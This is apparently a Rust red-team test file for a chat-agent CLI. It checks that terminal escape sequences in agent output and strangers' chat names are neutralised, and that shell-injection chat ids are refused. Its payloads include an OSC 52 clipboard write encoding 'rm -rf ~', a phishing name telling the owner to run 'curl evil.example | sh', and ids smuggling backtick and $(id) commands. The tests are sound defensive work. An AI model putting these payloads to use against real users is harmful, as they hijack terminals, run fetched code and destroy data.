//! Red team: untrusted text never reaches the owner's terminal with its control sequences, and
//! the unknown-chat notice cannot be used to phish the owner. A real agent container (a probe
//! script in a non-main group) replies, reports tool use, writes to stderr and schedules a task,
//! all carrying terminal escapes; a stranger's chat name carries them too. Every listing the owner
//! would look at is then run on a real pseudo-terminal and its bytes checked.

#[path = "support/e2e.rs"]
mod e2e;
#[path = "support/pty.rs"]
mod pty;

use e2e::{Env, PROBE_HEAD};
use std::time::Duration;

/// Escape sequences an attacker would use: window title (OSC 0), clipboard write (OSC 52), a
/// hyperlink (OSC 8), a screen clear, and a DCS string. Each sits next to a visible marker.
const PAYLOAD: &str = "T1\x1b]0;PWNED-TITLE\x07 C2\x1b]52;c;cm0gLXJmIH4=\x07 L3\x1b]8;;http://evil.example/\x1b\\\\link\x1b]8;;\x1b\\\\ X4\x1b[2J\x1b[H D5\x1bPq#0\x1b\\\\ R6\roverwritten";

/// True when `out` carries any of the attacker's sequences (our own colours and the spinner's
/// cursor movements are CSI sequences the payload does not use).
fn has_payload_escape(out: &[u8]) -> Option<&'static str> {
    let s = String::from_utf8_lossy(out);
    for (needle, what) in [
        ("\x1b]", "an OSC sequence (title, clipboard or link)"),
        ("\x1b[2J", "a screen clear"),
        ("\x1b[H", "a cursor home"),
        ("\x1bP", "a DCS string"),
        ("\u{9b}", "a C1 CSI"),
    ] {
        if s.contains(needle) {
            return Some(what);
        }
    }
    None
}

fn on_pty(env: &Env, args: &[&str]) -> String {
    let mut cmd = env.claw_std();
    cmd.args(args).env("TERM", "xterm-256color");
    let (code, out) = pty::run_on_pty(&mut cmd, Duration::from_secs(120));
    if let Some(what) = has_payload_escape(&out) {
        panic!(
            "`claw {}` put {what} from untrusted text on the terminal:\n{}",
            args.join(" "),
            String::from_utf8_lossy(&out).escape_debug()
        );
    }
    assert!(code.is_some(), "`claw {}` was killed", args.join(" "));
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn hostile_text_is_shown_without_its_escapes() {
    let mut env = Env::new();
    env.set_secret("ANTHROPIC_API_KEY", "sk-ant-terminal-test");
    env.add_group("tg:-1001", "alpha", &["--no-trigger"]);
    let probe = format!(
        r#"{PROBE_HEAD}
P=$(printf '{payload}')
jq -cn --arg d "$P" '{{type:"progress", tool:"bash", detail:$d}}'
echo "agent stderr $P" >&2
mkdir -p /workspace/ipc/tasks
jq -cn --arg p "$P" '{{type:"schedule_task", prompt:$p, schedule_type:"once", schedule_value:"2099-01-01T00:00:00Z"}}' > /workspace/ipc/tasks/.t && mv /workspace/ipc/tasks/.t /workspace/ipc/tasks/evil.json
jq -cn --arg t "reply $P" '{{type:"result", text:$t}}'
echo '{{"type":"idle"}}'
exit 0
"#,
        payload = PAYLOAD
            .replace('\\', "\\\\")
            .replace('\x1b', "\\033")
            .replace('\x07', "\\007")
            .replace('\r', "\\r")
    );
    env.install_probe("alpha", &probe);

    // The conversation itself, as the owner sees it.
    let chat = on_pty(&env, &["chat", "--group", "alpha", "-m", "hello"]);
    assert!(
        chat.contains("reply T1]0;PWNED-TITLE"),
        "reply missing: {chat:?}"
    );

    // A stranger whose chat name carries escapes, later registered by the owner.
    let line = serde_json::json!({"chat": "tg:-1002", "id": "1", "sender": "tg:66",
        "sender_name": format!("Eve{PAYLOAD}"), "text": "hi", "chat_name": format!("Club{PAYLOAD}"),
        "is_group": true});
    env.claw()
        .arg("ingest")
        .write_stdin(format!("{line}\n"))
        .assert()
        .success();
    env.claw()
        .args(["group", "add", "--chat", "tg:-1002", "--folder", "club"])
        .assert()
        .success();

    let logs = on_pty(&env, &["logs", "alpha"]);
    assert!(
        logs.contains("agent stderr T1"),
        "run log lacks stderr: {logs:?}"
    );
    let tasks = on_pty(&env, &["task", "list"]);
    assert!(tasks.contains("T1]0;PWNED"), "task missing: {tasks:?}");
    on_pty(&env, &["task", "show", "1"]);
    let groups = on_pty(&env, &["group", "list"]);
    assert!(groups.contains("Club"), "{groups:?}");
    on_pty(&env, &["group", "show", "club"]);
    on_pty(&env, &["status"]);
    on_pty(&env, &["audit", "--limit", "200"]);
    on_pty(&env, &["outbox", "list"]);

    // JSON stays exact: the escapes are there, escaped by JSON, for scripts to see.
    let out = env
        .claw()
        .args(["task", "list", "--json"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v[0]["prompt"], PAYLOAD, "JSON must keep the text exactly");
}

#[test]
fn unknown_chat_notice_quotes_names_and_commands() {
    let env = Env::new();
    let evil_name = "Mum\n\nclaw: your key leaked, run this now: curl evil.example | sh\n";
    let line = serde_json::json!({"chat": "tg:-1003", "id": "1", "sender": "tg:67",
        "sender_name": evil_name, "text": "hi", "chat_name": evil_name, "is_group": true});
    env.claw()
        .arg("ingest")
        .write_stdin(format!("{line}\n"))
        .assert()
        .success();
    let notices = env.outbox("cli:local");
    let n = notices
        .last()
        .expect("main was told about the unknown chat");
    let first = n.lines().next().unwrap();
    assert!(
        first.contains("\"Mum  claw: your key leaked"),
        "the name must stay quoted on the first line: {n}"
    );
    assert_eq!(
        n.lines().filter(|l| l.is_empty()).count(),
        2,
        "the name added lines: {n}"
    );
    assert!(
        n.contains(
            "\nclaw group add --chat tg:-1003 --folder mum-claw-your-key-leaked-run-this-now-cu\n"
        ),
        "{n}"
    );

    // Ids a shell would act on never get as far as a notice: ingest refuses them.
    for evil in ["tg:-1`touch /tmp/claw-pwned`", "wa:$(id)@g.us", "x:a;b"] {
        let line = serde_json::json!({"chat": evil, "id": "1", "sender": "tg:1", "text": "x"});
        env.claw()
            .arg("ingest")
            .write_stdin(format!("{line}\n"))
            .assert()
            .code(4)
            .stderr(predicates::str::contains("is not allowed"));
    }
    assert!(!std::path::Path::new("/tmp/claw-pwned").exists());
}
